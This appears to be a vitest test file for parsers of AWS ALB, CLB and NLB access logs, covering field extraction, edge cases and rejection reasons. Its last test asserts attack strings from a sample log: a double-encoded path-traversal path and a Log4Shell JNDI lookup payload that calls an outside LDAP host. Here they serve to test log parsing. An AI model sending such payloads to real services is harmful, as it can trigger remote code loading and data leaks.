import { describe, expect, it } from 'vitest'
import { hasSamples, sample } from '../read-in-test'
import { alb } from './alb'
import { clb } from './clb'
import { holdsForAnyBytes } from './format-property-in-test'
import { nlb } from './nlb'
import { readThrough, reasons } from './read-format-in-test'

const BEHIND = '- - arn:aws:targetgroup/a "Root=1" "shop.example" "arn" 0 2026-01-02T03:04:04.000000Z "forward" "-" "-"'
const ALB =
  'https 2026-01-02T03:04:05.186641Z app/lb/50dc 192.0.2.1:2817 10.0.0.1:80 0.086 0.048 0.037 200 201 34 366 ' +
  `"GET https://shop.example:443/a?b=1 HTTP/1.1" "curl/8 \\x22x\\x22" ${BEHIND}`
const CLB =
  '2026-01-02T03:04:05.945958Z my-lb 192.0.2.1:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://shop.example:80/ HTTP/1.1" "curl/8" - -'
const TCP = CLB.replace('200 200 0 29', '- - 82 305').replace(/"GET.*"curl\/8"/, '"- - - " "-"')
const NLB =
  'tls 2.0 2026-01-02T03:04:05 net/lb/c6e7 g3d4 192.0.2.1:51341 10.0.0.1:443 5 2 98 246 - arn:aws:acm:a - AES128-SHA tlsv12 - shop.example - - -'
const at = (text: string) => Date.parse(text)

describe('ALB', () => {
  const one = (line: string) => readThrough(alb, line).rows[0]

  it('reads every field', () => {
    const { rows, zones, name } = readThrough(alb, ALB)
    expect({ zones, name }).toEqual({ zones: [{ offset: '+0000', rows: 1 }], name: 'alb' })
    expect(rows).toEqual([
      {
        time: at('2026-01-02T03:04:05.186Z'),
        client: '192.0.2.1',
        method: 'GET',
        host: 'shop.example',
        path: '/a?b=1',
        page: '/a',
        agent: 'curl/8 "x"',
        status: 200,
        bytes: 366,
        duration: 171,
      },
    ])
  })

  it.each([
    ['a client in brackets', ALB.replace('192.0.2.1:2817', '[2001:db8::1]:2817'), { client: '2001:db8::1' }],
    ['a bare IPv6 client', ALB.replace('192.0.2.1:2817', '2001:db8::1:2817'), { client: '2001:db8::1' }],
    [
      'a host that is IPv6',
      ALB.replace('shop.example:443', '[2001:db8::2]:443'),
      { host: '2001:db8::2', path: '/a?b=1' },
    ],
    ['a client that was gone', ALB.replace('200 201', '460 -'), { status: 460 }],
    ['a query without path', ALB.replace('/a?b=1', '?b=1'), { path: '?b=1', host: 'shop.example' }],
    ['spaces in the path', ALB.replace('/a?b=1', '/a b'), { path: '/a b' }],
    ['an agent cut off with the line', ALB.slice(0, ALB.indexOf('curl') + 4), { agent: 'curl', status: 200 }],
    ['a line without agent', ALB.slice(0, ALB.indexOf(' "curl')), { path: '/a?b=1' }],
  ])('reads %s', (_, line, fields) => expect(one(line)).toMatchObject(fields))

  it('takes -1 and 000 for what did not happen', () => {
    const row = one(ALB.replace('10.0.0.1:80 0.086 0.048 0.037 200 201 34 366', '- -1 -1 -1 000 - 0 -1'))
    expect(row).toMatchObject({ client: '192.0.2.1', path: '/a?b=1' })
    expect([row?.duration, row?.status, row?.bytes]).toEqual([undefined, undefined, undefined])
  })

  it('reads no request where none came', () => {
    const row = one(ALB.replace(/"GET[^"]*"/, '"- http://shop.example:80- -"'))
    expect(row).toMatchObject({ host: 'shop.example', client: '192.0.2.1' })
    expect([row?.method, row?.path]).toEqual([undefined, undefined])
  })

  it.each([
    ['unknown-format', CLB],
    ['unknown-format', NLB],
    ['unknown-format', 'Error line 1'],
    ['field-count', ALB.slice(0, 60)],
    ['no-status', ALB.replace(' 200 201 ', ' ok 201 ')],
    ['bad-bytes', ALB.replace(' 366 ', ' 36k ')],
    ['no-request', ALB.replace('"GET', 'GET')],
    ['no-request', ALB.slice(0, ALB.indexOf(' "GET'))],
    ['open-request', ALB.slice(0, ALB.indexOf(' HTTP/1.1"'))],
    ['bad-time', ALB.replace('2026-01-02T', '2026-31-02T')],
    ['no-zone', ALB.replace('.186641Z', '')],
  ])('refuses with %s', (reason, line) => expect(reasons(readThrough(alb, line))).toEqual({ [reason]: 1 }))

  holdsForAnyBytes(alb, [ALB, ALB.replace(/"GET[^"]*"/, '"- http://shop.example:80- -"')])
})

describe('CLB', () => {
  it('reads requests, and connections that were no HTTP', () => {
    const { rows, rejects } = readThrough(clb, `${CLB}\n${TCP}`)
    expect(rejects).toEqual([])
    expect(rows).toEqual([
      {
        time: at('2026-01-02T03:04:05.945Z'),
        client: '192.0.2.1',
        method: 'GET',
        host: 'shop.example',
        path: '/',
        page: '/',
        agent: 'curl/8',
        status: 200,
        bytes: 29,
        duration: expect.closeTo(1.178, 5),
      },
      { time: at('2026-01-02T03:04:05.945Z'), client: '192.0.2.1', bytes: 305, duration: expect.closeTo(1.178, 5) },
    ])
  })

  it.each([
    ['unknown-format', ALB],
    ['field-count', CLB.slice(0, 60)],
    ['bad-time', CLB.replace('T03:', 'T33:')],
  ])('refuses with %s', (reason, line) => expect(reasons(readThrough(clb, line))).toEqual({ [reason]: 1 }))

  holdsForAnyBytes(clb, [CLB, TCP])
})

describe('NLB', () => {
  it('reads connections', () => {
    const { rows, zones } = readThrough(nlb, NLB.replace('shop.', '%73hop.'))
    expect(zones).toEqual([{ offset: '+0000', rows: 1 }])
    expect(rows).toEqual([
      { time: at('2026-01-02T03:04:05Z'), client: '192.0.2.1', host: 'shop.example', bytes: 246, duration: 5 },
    ])
  })

  it.each([
    ['unknown-format', ALB],
    ['field-count', NLB.slice(0, 90)],
    ['bad-bytes', NLB.replace(' 246 ', ' x ')],
    ['bad-time', NLB.replace('2026-01-02T', '2026-01-32T')],
  ])('refuses with %s', (reason, line) => expect(reasons(readThrough(nlb, line))).toEqual({ [reason]: 1 }))

  holdsForAnyBytes(nlb, [NLB])
})

describe.runIf(hasSamples)('load balancer samples', () => {
  const split = (name: string) => {
    const bytes = sample(name)
    return [alb, clb, nlb].map((format) => readThrough(format, bytes).rows)
  }

  it('share one file without overlap: 10 ALB, 4 CLB, 2 NLB', () => {
    const [albs, clbs, nlbs] = split('plaso_aws_elb_access.log')
    expect([albs?.length, clbs?.length, nlbs?.length]).toEqual([10, 4, 2])
    expect(albs?.[0]).toMatchObject({
      client: '192.168.1.10',
      host: 'www.domain.name',
      path: '/',
      bytes: 107999,
      duration: 177,
    })
    expect(clbs?.map(({ status, bytes, method }) => [status, bytes, method])).toEqual([
      [200, 29, 'GET'],
      [200, 57, 'GET'],
      [undefined, 305, undefined],
      [undefined, undefined, undefined],
    ])
    expect(nlbs?.map(({ time }) => time)).toEqual([at('2022-04-01T08:51:42Z'), at('2022-12-20T02:59:40Z')])
  })

  it('reads attacks as they were sent', () => {
    const { rows, rejects } = readThrough(alb, sample('crowdsec_aws-alb-logs.log'))
    expect(rejects).toEqual([])
    expect(rows).toHaveLength(14)
    expect(rows[3]).toMatchObject({ status: 404, path: '/%%32%65%%32%65/', host: 'api.example.com' })
    expect(rows[3]?.duration).toBeUndefined()
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what stands in the log
    expect(rows[4]?.agent).toBe('${jndi:ldap://${java:version}.domain/a}')
  })
})
